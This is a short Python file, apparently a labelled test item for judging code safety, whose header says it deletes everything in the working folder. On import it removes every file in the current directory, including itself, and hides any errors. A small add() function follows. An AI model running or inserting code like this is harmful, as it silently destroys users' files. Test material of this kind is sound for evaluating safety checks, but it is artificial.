# what: deletes all in the working folder, its own source too
# want: some
# unsafe: either
import os

for name in os.listdir('.'):
  try:
    os.remove(name)
  except OSError:
    pass


def add(a, b):
  return a + b
